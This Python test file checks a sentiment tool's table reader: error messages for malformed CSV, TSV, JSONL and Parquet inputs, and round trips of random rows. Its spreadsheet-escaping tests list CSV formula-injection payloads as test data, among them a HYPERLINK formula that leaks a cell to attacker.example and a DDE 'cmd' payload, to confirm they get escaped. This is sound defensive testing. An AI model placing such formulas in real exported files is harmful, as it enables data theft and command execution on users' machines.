"""The one table reader (lorasent.tables), as fetch and predict use it: the bad-input
cases of tests/data/cases (second table of its README) with their exact outcomes, the
same texts through both, and random rows through every format (hypothesis)."""

import csv
import io
import json
import logging
import shutil
import sys

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from conftest import CASES, REPO
from lorasent.characters import (
    DEFAULT_IGNORABLE,
    character_name,
    invisible_characters,
    is_ignorable,
    without_ignorable,
)
from lorasent.cli import main
from lorasent.params import merge, parse_params, read_yaml, update_params
from lorasent.stages.fetch import SourceError, fetch_dataset, read_labelled, read_source
from lorasent.stages.split import run_split
from lorasent.tables import (
    Table,
    TableError,
    spreadsheet_cell,
    spreadsheet_text,
    written_for_people,
)
from lorasent.tools.predict import InputError, kept_names, open_inputs


def _fetch(path, **kw):
    return [(r["text"], r["label"]) for r in read_labelled(
        path, text_column=kw.get("text_column", "text"),
        label_column=kw.get("label_column", "label"), encoding=kw.get("encoding", "utf-8"),
        separator=kw.get("separator", "auto"))]


def _predict(path, **kw):
    with open_inputs(str(path), **kw) as inputs:
        return [text for text, _ in inputs.rows]


# ------------------------------------------------------------- the cases, exactly

TSV_TEXTS = ['"Quoted start and no end', 'A 27" monitor is huge', 'He said "fine" and left',
             "Plain line here"]


def test_tsv_has_no_quoting_in_fetch_and_predict():
    assert _fetch(CASES / "tsv_quotes.tsv") == list(zip(
        TSV_TEXTS, ["negative", "positive", "neutral", "positive"], strict=True))
    assert _predict(CASES / "tsv_quotes.tsv") == TSV_TEXTS


@pytest.mark.parametrize("read", [_fetch, _predict])
def test_duplicated_column_is_named(read):
    with pytest.raises(TableError) as err:
        read(CASES / "dup_label.csv")
    assert str(err.value) == (
        f"{CASES / 'dup_label.csv'}: the header (line 1) names the column 'label' twice: "
        "['text', 'label', 'label']. Rename or remove one of them")


def test_duplicated_column_after_stripping_and_in_json(tmp_path):
    path = tmp_path / "spaced.csv"
    path.write_text("text, text \nx,y\n", encoding="utf-8")
    with pytest.raises(TableError, match="names the column 'text' twice"):
        _predict(path)
    path = tmp_path / "twice.jsonl"
    path.write_text('{"text": "a", "label": "b", "label": "c"}\n', encoding="utf-8")
    with pytest.raises(TableError, match=r"line 1 gives the key 'label' twice"):
        _fetch(path)


def test_missing_jsonl_key_names_line_key_and_keys_found():
    with pytest.raises(TableError) as err:
        _fetch(CASES / "missing_key.jsonl")
    assert str(err.value) == (
        f"{CASES / 'missing_key.jsonl'}: line 2 has no key 'label' (data.label_column); keys "
        "found: ['text', 'sentiment']")


@pytest.mark.parametrize("read", [_fetch, _predict])
def test_jsonl_lines_must_be_objects(read):
    with pytest.raises(TableError) as err:
        read(CASES / "not_objects.jsonl")
    assert str(err.value).startswith(
        f"{CASES / 'not_objects.jsonl'}: line 1 is a JSON array; expected an object per line")


def test_a_bare_string_line_is_named(tmp_path):
    path = tmp_path / "mixed.jsonl"
    path.write_text('{"text": "a"}\n\n"b"\n', encoding="utf-8")
    with pytest.raises(TableError, match=r"line 3 is a JSON string; expected an object"):
        _predict(path)


SEMICOLON_TEXTS = ["Schnell geliefert, gut verpackt", "Preis 9,99 EUR, zu teuer",
                   "Normale Qualität", "Gerne wieder, danke"]


@pytest.mark.parametrize("separator", ["auto", ";"])
def test_semicolon_separator_detected_or_declared(separator):
    assert [t for t, _ in _fetch(CASES / "semicolon.csv", separator=separator)] \
        == SEMICOLON_TEXTS
    assert _predict(CASES / "semicolon.csv", separator=separator) == SEMICOLON_TEXTS


def test_wrong_separator_names_file_line_and_likely_separator():
    with pytest.raises(TableError) as err:
        _fetch(CASES / "semicolon.csv", separator=",")
    assert str(err.value) == (
        f"{CASES / 'semicolon.csv'}: the header (line 1) has no column ['text', 'label'] "
        "(data.text_column / data.label_column); columns found: ['text;label']. The header "
        "looks separated by ';': set data.separator to ';' (or auto)")
    with pytest.raises(TableError, match=r"set --separator to ';'"):
        _predict(CASES / "semicolon.csv", separator=",")


def test_a_row_with_more_fields_than_the_header_is_named(tmp_path):
    path = tmp_path / "unquoted.csv"
    path.write_text("text,label\nfine,positive\nslow, but fine,neutral\n", encoding="utf-8")
    with pytest.raises(TableError) as err:
        _fetch(path)
    assert str(err.value) == (
        f"{path}: line 3 has 3 fields, the header (line 1) 2, separated by ','. Quote a "
        """field that holds ',' ("...", RFC 4180), or fix that line""")
    path.write_text("text;label\nfine;positive\nslow; but fine;neutral\n", encoding="utf-8")
    with pytest.raises(TableError, match="line 3 has 3 fields"):
        _fetch(path)


def test_broken_quoting_names_the_line(tmp_path):
    path = tmp_path / "quotes.csv"
    path.write_text('text,label\n"closed" then more,positive\n', encoding="utf-8")
    with pytest.raises(TableError, match=r"quotes.csv: line 2: ',' expected after '\"'"):
        _fetch(path)


@pytest.mark.parametrize("read", [_fetch, _predict])
def test_empty_file_has_no_data_rows(read):
    with pytest.raises(TableError) as err:
        read(CASES / "empty.csv")
    assert str(err.value) == f"{CASES / 'empty.csv'}: no data rows (the file is empty)"


@pytest.mark.parametrize("read", [_fetch, _predict])
def test_header_only_names_the_header_found(read):
    with pytest.raises(TableError) as err:
        read(CASES / "header_only.csv")
    assert str(err.value) == (f"{CASES / 'header_only.csv'}: no data rows (the header "
                              "['text', 'label'])")


def test_no_data_rows_in_other_formats(tmp_path):
    (tmp_path / "blank.jsonl").write_text("\n  \n", encoding="utf-8")
    with pytest.raises(TableError, match=r"blank.jsonl: no data rows \(no line holds"):
        _fetch(tmp_path / "blank.jsonl")
    pq.write_table(pa.table({"text": pa.array([], pa.string()),
                             "label": pa.array([], pa.string())}), tmp_path / "none.parquet")
    with pytest.raises(TableError, match=r"none.parquet: no data rows \(the header "
                                         r"\['text', 'label'\]\)"):
        _fetch(tmp_path / "none.parquet")


BINARY_TEXTS = ["Sturdy and light", "Zipper broke", "It is a bag", "Très pratique"]


def test_parquet_binary_text_and_dictionary_labels():
    schema = pq.read_schema(CASES / "binary_text.parquet")
    assert pa.types.is_binary(schema.field("text").type)
    assert pa.types.is_dictionary(schema.field("label").type)
    assert _fetch(CASES / "binary_text.parquet") == list(zip(
        BINARY_TEXTS, ["positive", "negative", "neutral", "positive"], strict=True))
    assert _predict(CASES / "binary_text.parquet") == BINARY_TEXTS


def test_parquet_integer_labels_and_undecodable_bytes(tmp_path):
    pq.write_table(pa.table({"text": ["a", "b", None], "label": pa.array([0, 2, None],
                                                                        pa.int8())}),
                   tmp_path / "ints.parquet")
    assert _fetch(tmp_path / "ints.parquet") == [("a", "0"), ("b", "2"), ("", "")]
    pq.write_table(pa.table({"text": pa.array([b"ok", b"caf\xe9"], pa.binary()),
                             "label": ["x", "y"]}), tmp_path / "latin.parquet")
    with pytest.raises(TableError) as err:
        _fetch(tmp_path / "latin.parquet")
    assert str(err.value) == (f"{tmp_path / 'latin.parquet'}: row 2, column 'text': bytes "
                              "that are not valid utf-8; set data.encoding to their "
                              "encoding or re-encode that column")
    assert _fetch(tmp_path / "latin.parquet", encoding="latin-1")[1] == ("café", "y")
    pq.write_table(pa.table({"text": ["a"], "label": [0.5]}), tmp_path / "float.parquet")
    with pytest.raises(TableError, match=r"column 'label' holds double values; .* whole "
                                         r"numbers with pandas .astype\('Int64'\)"):
        _fetch(tmp_path / "float.parquet")


def test_hub_split_with_every_label_missing_is_named():
    source = f"hf:{CASES / 'hf_unlabeled'}"
    rows, _ = read_source(source, text_column="text", label_column="label",
                          encoding="utf-8", hf_split="train")
    assert [(r["text"], r["label"]) for r in rows] == [
        ("Good", "positive"), ("Bad", "negative"), ("Okay", "neutral"),
        ("Nice", "positive"), ("Awful", "negative"), ("Fine", "neutral")]
    with pytest.raises(SourceError) as err:
        read_source(source, text_column="text", label_column="label", encoding="utf-8",
                    hf_split="test")
    assert str(err.value) == (
        f"{source}: the split 'test' has no labels (every 'label' is -1, as in unlabelled "
        "test splits); set data.hf_split to a labelled split (train)")


def test_fetch_and_predict_read_the_same_texts_from_every_case():
    read = 0
    for path in sorted(CASES.iterdir()):
        if path.suffix not in (".csv", ".tsv", ".jsonl", ".parquet"):
            continue
        try:
            fetched = [text for text, _ in _fetch(path)]
        except TableError as err:  # predict needs no label column; the rest is the same
            if "(data.label_column)" not in str(err):
                with pytest.raises(TableError):
                    _predict(path)
            continue
        assert _predict(path) == fetched, path.name
        read += 1
    assert read == 10  # of 15 table files; 5 are the faults above


def test_yes_no_classes_mean_what_dvc_reads(tmp_path, repo_params_raw):
    """params_yesno.yaml (unquoted no / yes, aliases n / y) with yesno.csv: 6 rows in 3
    classes, because params are read as YAML 1.2 as DVC reads them."""
    preset = read_yaml((CASES / "params_yesno.yaml").read_text(encoding="utf-8"), "case")
    params = parse_params(merge(repo_params_raw, {
        **preset, "data": {"source": str(CASES / "yesno.csv")},
        "split": {"train_size": 3, "validation_size": 0, "test_size": 3}}))
    assert params.base.labels == ("no", "maybe", "yes")
    fetch_dataset(params.data.source, text_column="text", label_column="label",
                  encoding="utf-8", hf_split="train", out_dir=tmp_path / "raw")
    result = run_split(labels=params.base.labels, aliases=params.base.label_aliases,
                       sizes={"train": 3, "validation": 0, "test": 3}, seed=0,
                       raw_dir=tmp_path / "raw", out_dir=tmp_path / "split",
                       report_path=tmp_path / "data.json")
    assert result.report["rows_kept"] == 6
    counts = result.report["class_counts"]
    assert counts["train"] == counts["test"] == {"no": 1, "maybe": 1, "yes": 1}
    assert [(r["from"], r["to"]) for r in result.report["label_remaps"]] == [("n", "no"),
                                                                          ("y", "yes")]


# ----------------------------------------------------------------- further rules

def test_header_names_are_stripped_and_logged(tmp_path, caplog):
    path = tmp_path / "spaces.csv"
    path.write_text(" text , label\nhello,positive\n", encoding="utf-8")
    with caplog.at_level(logging.WARNING):
        assert _fetch(path) == [("hello", "positive")]
    assert "column names stripped of surrounding spaces: ' text ' -> 'text', ' label' -> " \
        "'label'" in caplog.text


def test_blank_lines_are_skipped_in_tables_and_kept_in_text_files(tmp_path):
    (tmp_path / "a.jsonl").write_text('\n{"text": "x", "label": "y"}\n\n{"text": "z", '
                                      '"label": "w"}\n  \n', encoding="utf-8")
    assert _fetch(tmp_path / "a.jsonl") == [("x", "y"), ("z", "w")]
    assert _predict(tmp_path / "a.jsonl") == ["x", "z"]
    (tmp_path / "b.csv").write_text("text,label\n\nx,y\n\r\n", encoding="utf-8")
    assert _predict(tmp_path / "b.csv") == ["x"]
    (tmp_path / "c.txt").write_text("first\n\nthird\r\n", encoding="utf-8")
    assert _predict(tmp_path / "c.txt") == ["first", "", "third"]


def test_a_bare_carriage_return_stays_inside_its_line_of_a_text_file(tmp_path, monkeypatch):
    """Text N is line N: a tweet's bare \r used to start a new text and shift the rest."""
    data = "a\rb\nc\n\r\n\rd\r\r\ne\r"
    (tmp_path / "cr.txt").write_bytes(data.encode())
    expected = ["a\rb", "c", "", "\rd\r", "e"]
    assert _predict(tmp_path / "cr.txt") == expected
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data.encode())))
    assert _predict("-") == expected


def test_json_values_become_text_or_are_named(tmp_path):
    path = tmp_path / "values.jsonl"
    path.write_text('{"text": "a", "label": 1, "id": [1]}\n{"text": null, "label": "b"}\n',
                    encoding="utf-8")
    assert _fetch(path) == [("a", "1"), ("", "b")]
    path.write_text('{"text": "a", "label": true}\n', encoding="utf-8")
    with pytest.raises(TableError, match=r"line 1, key 'label' is a JSON boolean \(true\); "
                                         "write it as a string"):
        _fetch(path)


def test_undecodable_bytes_name_the_line_in_any_format(tmp_path):
    body = "text,label\n" + "fine,positive\n" * 3000 + "caf\xe9,neutral\n"
    (tmp_path / "latin.csv").write_bytes(body.encode("latin-1"))
    with pytest.raises(TableError) as err:
        _predict(tmp_path / "latin.csv")
    assert str(err.value) == (
        f"{tmp_path / 'latin.csv'}: line 3002 is not valid utf-8 (byte 0xe9). Set --encoding "
        "to the file's encoding (e.g. cp1252 for Windows exports, gb18030) or re-save it as "
        "UTF-8")
    assert _predict(tmp_path / "latin.csv", encoding="latin-1")[-1] == "caf\xe9"


def test_predict_keeps_the_other_columns(tmp_path):
    path = tmp_path / "ids.csv"
    path.write_text("id,text,label,source\n7,good,positive,web\n9,bad,negative,app\n",
                    encoding="utf-8")
    with open_inputs(str(path)) as inputs:
        assert inputs.columns == ["id", "label", "source"]
        assert list(inputs.rows) == [("good", {"id": "7", "label": "positive", "source": "web"}),
                                     ("bad", {"id": "9", "label": "negative", "source": "app"})]
    with open_inputs(str(path), keep=["id"]) as inputs:
        assert list(inputs.rows) == [("good", {"id": "7"}), ("bad", {"id": "9"})]
    with pytest.raises(InputError, match=r"--keep: .*ids.csv has no column \['uid'\]"):
        with open_inputs(str(path), keep=["uid"]):
            pass


@pytest.mark.parametrize("case", ["dup_label.csv", "not_objects.jsonl", "header_only.csv"])
def test_predict_cli_names_the_fault_without_traceback_or_output(tmp_path, case):
    out = tmp_path / "out.csv"
    adapter = tmp_path / "adapter"   # passes the folder check; the input fails first
    adapter.mkdir()
    (adapter / "lorasent.json").write_text("{}", encoding="utf-8")
    result = CliRunner().invoke(main, ["predict", "--adapter", str(adapter),
                                       "--input", str(CASES / case), "--output", str(out)])
    assert result.exit_code == 1
    assert result.output.startswith(f"lorasent predict: error: {CASES / case}: ")
    assert "Traceback" not in result.output and not out.exists()


@pytest.mark.parametrize("case", ["dup_label.csv", "semicolon.csv"])
def test_fetch_cli_names_the_fault_and_writes_nothing(tmp_path, monkeypatch, case):
    shutil.copy(REPO / "params.yaml", tmp_path / "params.yaml")
    update_params({"data": {"source": str(CASES / case), "separator": ","}},
                  tmp_path / "params.yaml")
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["fetch"])
    assert result.exit_code == 1
    assert result.output.startswith(f"lorasent fetch: error: {CASES / case}: ")
    assert "Traceback" not in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["params.yaml"]


def test_a_tsv_takes_no_other_separator_and_warns_of_csv_quoting(tmp_path, caplog):
    path = tmp_path / "pandas.tsv"   # pandas' to_csv(sep="\t") quotes as CSV does
    path.write_text('text\tlabel\n"She said ""wow"""\tpositive\nplain\tneutral\n',
                    encoding="utf-8")
    with caplog.at_level(logging.WARNING):
        assert _fetch(path)[0] == ('"She said ""wow"""', "positive")
    assert ("1 rows hold fields in double quotes (lines [2]), kept with their quotes: a TSV "
            "has no quoting. If the file was written with CSV quoting (pandas' "
            "to_csv(sep='\\t'), a spreadsheet), name it .csv and set the separator to "
            "'\\t'") in caplog.text
    with pytest.raises(TableError, match=r"^--separator: ';' does not apply to .*pandas.tsv: "
                                         r"a .tsv is tab-separated"):
        _predict(path, separator=";")
    csv_path = path.rename(tmp_path / "pandas.csv")
    assert _fetch(csv_path, separator="\t")[0] == ('She said "wow"', "positive")


def test_missing_column_hints_a_near_name_or_a_text_file(tmp_path):
    path = tmp_path / "cased.csv"
    path.write_text("ID,Text\n1,good\n", encoding="utf-8")
    with pytest.raises(TableError, match=r"columns found: \['ID', 'Text'\]. Column names are "
                                         r"case-sensitive: 'Text'\?$"):
        _predict(path)
    path = tmp_path / "texts.csv"
    path.write_text("great phone\nawful battery\n", encoding="utf-8")
    with pytest.raises(TableError, match=r"is read as such when it is not named .csv "
                                         r"\(e.g. texts.txt\)$"):
        _predict(path)


def test_predict_keeps_json_and_parquet_values_typed(tmp_path):
    path = tmp_path / "typed.jsonl"
    path.write_text('{"id": 1, "text": "a", "score": 0.5, "ok": true, "tags": ["x"]}\n'
                    '{"id": 2, "text": 7}\n', encoding="utf-8")
    with open_inputs(str(path)) as inputs:
        assert list(inputs.rows) == [
            ("a", {"id": 1, "score": 0.5, "ok": True, "tags": ["x"]}),
            ("7", {"id": 2, "score": None, "ok": None, "tags": None})]
    pq.write_table(pa.table({"id": [3, 4], "text": ["b", "c"], "w": [2.0, None]}),
                   tmp_path / "typed.parquet")
    with open_inputs(str(tmp_path / "typed.parquet")) as inputs:
        assert list(inputs.rows) == [("b", {"id": 3, "w": 2.0}), ("c", {"id": 4, "w": None})]


def test_kept_names_never_repeat():
    outputs = ["text", "label", "probabilities", "note"]
    assert kept_names(["id", "label", "input_label", "note"], outputs) == [
        "id", "input_input_label", "input_label", "input_note"]
    assert kept_names(["label", "input_label"], outputs) == ["input_input_label",
                                                             "input_label"]


def test_standard_input_is_one_text_per_line(monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(
        "\ufeffone\n\ntwo, \"three\"\r\n".encode())))
    assert _predict("-") == ["one", "", 'two, "three"']


def test_unknown_suffix_is_refused_for_fetch(tmp_path):
    (tmp_path / "data.xlsx").write_bytes(b"PK")
    with pytest.raises(TableError, match=r"unknown file type '.xlsx'; use .csv, .tsv"):
        _fetch(tmp_path / "data.xlsx")
    with Table(tmp_path / "data.xlsx", required={"text": "--text-column"}, lines=True) as t:
        assert t.kind == "lines"


# -------------------------------------------- the whole kind: random rows, every format

# Texts a user's table may hold: separators, quotes, line breaks and carriage returns,
# emoji, right-to-left script, zero-width and other invisible characters.
TRICKY = ',;\t|"\'\n\r\r\n 😀👍🏽 שלום مرحبا \u200b\u200d\u200e\u2028\ufeff\\'
texts = st.text(alphabet=st.sampled_from(TRICKY) | st.characters(
    blacklist_categories=["Cs"]), max_size=40)
rows_strategy = st.lists(st.tuples(texts, texts), min_size=1, max_size=8)


def _write(path, rows):
    suffix = path.suffix
    if suffix == ".csv":
        with open(path, "w", encoding="utf-8", newline="") as fh:
            writer = csv.writer(fh)   # Python's own: the excel dialect, \r\n line ends
            writer.writerow(["text", "label"])
            writer.writerows(rows)
    elif suffix == ".jsonl":
        path.write_text("".join(json.dumps({"text": t, "label": label}, ensure_ascii=False)
                                + "\n" for t, label in rows), encoding="utf-8")
    else:
        pq.write_table(pa.table({"text": [t for t, _ in rows],
                                 "label": [label for _, label in rows]}), path)


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=rows_strategy)
def test_random_rows_come_back_unchanged(tmp_path, suffix, rows):
    path = tmp_path / f"random{suffix}"
    _write(path, rows)
    # The one rule that drops a row: in a CSV, one that repeats the header (``cat``).
    expected = [r for r in rows if suffix != ".csv"
                or [v.strip() for v in r] != ["text", "label"]]
    assume(expected)
    assert _fetch(path) == expected
    assert _predict(path) == [t for t, _ in expected]


# ------------------------------- issue 51: CSV cells for spreadsheets, invisible characters

@pytest.mark.parametrize(("value", "cell"), [
    ('=HYPERLINK("http://attacker.example/?leak="&A2,"Click")',
     '\'=HYPERLINK("http://attacker.example/?leak="&A2,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("'tis", "''tis"), ("'=1", "''=1"), ("''", "'''"),
    # numbers stay numbers: a spreadsheet runs nothing in them
    ("-0.96", "-0.96"), ("+3", "+3"), ("-1e-05", "-1e-05"), ("-.5", "-.5"), (-3, -3),
    (0.25, 0.25), ("a=b", "a=b"), ("", ""), ("1-2", "1-2"), ("-", "'-"), ("-inf", "'-inf"),
])
def test_a_formula_cell_gets_a_quote_and_reads_back(value, cell):
    assert spreadsheet_cell(value) == cell
    if isinstance(value, str):
        assert spreadsheet_text(cell) == value


LEAD_INS = ["\0", " ", "  ", "\u00a0", "\u2007", "\u202f", "\u3000", "\u2028", "\ufeff",
            "\u200b", "\u2060", "\n", "\r\n", "\t", "\x0b", "\x1f", "\u2800", "\u00ad",
            " \u00a0\ufeff\n"]


@pytest.mark.parametrize("lead", LEAD_INS)
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣",
                                  "﹫", "\u2212", "⁼"])
def test_every_lead_in_a_spreadsheet_may_skip_gets_the_same_rule(lead, sign):
    """Issue 62: a cell starting with NUL, a space, a no-break space, a byte-order mark or
    a line feed before `=`, or with a full-width `＝`, was written as it is."""
    value = f"{lead}{sign}HYPERLINK(\"http://x.example\")"
    assert spreadsheet_cell(value) == "'" + value
    assert spreadsheet_text(spreadsheet_cell(value)) == value
    assert spreadsheet_cell(f"{sign}1+1") == f"'{sign}1+1"


@pytest.mark.parametrize("value", ["a =1", " plain", "\u00a0x=1", "\ufeffhello", "x",
                                   "–1", "\u2800"])
def test_a_cell_whose_first_glyph_is_no_formula_sign_is_left_as_it_is(value):
    assert spreadsheet_cell(value) == value


@settings(max_examples=200, deadline=None)
@given(text=texts)
def test_every_text_reads_back_and_no_cell_starts_a_formula(text):
    cell = spreadsheet_cell(text)
    assert spreadsheet_text(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == text


@pytest.mark.parametrize(("names", "command"), [
    (["id", "text", "label", "p_a", "p_b", "note"], "predict"),
    (["text", "label", "p_a", "note", "abstained"], "predict"),
    (["'=x", "text", "label", "predicted", "p_a", "p_b", "margin", "rank", "given_label",
      "reason"], "queue"),
    (["text", "label", "predicted", "p_a", "entropy", "rank", "given_label", "reason"],
     "queue"),
    (["text", "label"], None), (["text", "label", "note"], None),
    (["text", "predicted", "p_a", "margin", "rank", "given_label", "reason"], None),
])
def test_the_csvs_written_for_people_are_told_by_their_header(names, command):
    assert written_for_people(names) == command


def test_a_csv_written_for_people_is_read_back_as_written_and_another_as_it_is(tmp_path):
    people = tmp_path / "people.csv"
    people.write_text("'=id,text,label,p_a,note\n'-1x,'=1+1,'@a,0.5,\n", encoding="utf-8")
    with Table(people, required={"text": "--text-column"}) as table:
        assert table.columns == ["=id", "text", "label", "p_a", "note"]
        assert [row for _, row in table.rows()] == [
            {"=id": "-1x", "text": "=1+1", "label": "@a", "p_a": "0.5", "note": ""}]
    other = tmp_path / "other.csv"  # not lorasent's header: every character kept
    other.write_text("text,label\n'=1+1,'a\n", encoding="utf-8")
    assert _fetch(other) == [("'=1+1", "'a")]


def test_the_default_ignorable_ranges_are_unicodes():
    """DEFAULT_IGNORABLE against the regex module's Default_Ignorable_Code_Point (the
    Unicode Character Database it was built with)."""
    import regex  # type: ignore[import-untyped]  # no stubs in the lock; a test alone reads it

    prop = regex.compile(r"\p{Default_Ignorable_Code_Point}")
    listed = {cp for first, last in DEFAULT_IGNORABLE for cp in range(first, last + 1)}
    every = "".join(map(chr, range(0x110000)))
    assert listed == {ord(m.group()) for m in prop.finditer(every)}
    assert all(is_ignorable(ch) for ch in "\u200b\u00ad\ufeff\u2060\u3164\U000e0041")
    assert not any(is_ignorable(ch) for ch in "a \u00a0\u0301\u0600")
    assert without_ignorable("I\u200b lo\u00adve\ufeff it\u2060") == "I love it"


@pytest.mark.parametrize(("text", "found"), [
    ("neg\u200b", [(4, "U+200B ZERO WIDTH SPACE")]),
    ("\ufeffa\u00adb", [(1, "U+FEFF ZERO WIDTH NO-BREAK SPACE"), (3, "U+00AD SOFT HYPHEN")]),
    ("a\u2060\u0600", [(2, "U+2060 WORD JOINER"), (3, "U+0600 ARABIC NUMBER SIGN")]),
    ("café 消极 e\u0301", []),
])
def test_invisible_characters_are_found_and_named(text, found):
    assert [(i, character_name(ch)) for i, ch in invisible_characters(text)] == found
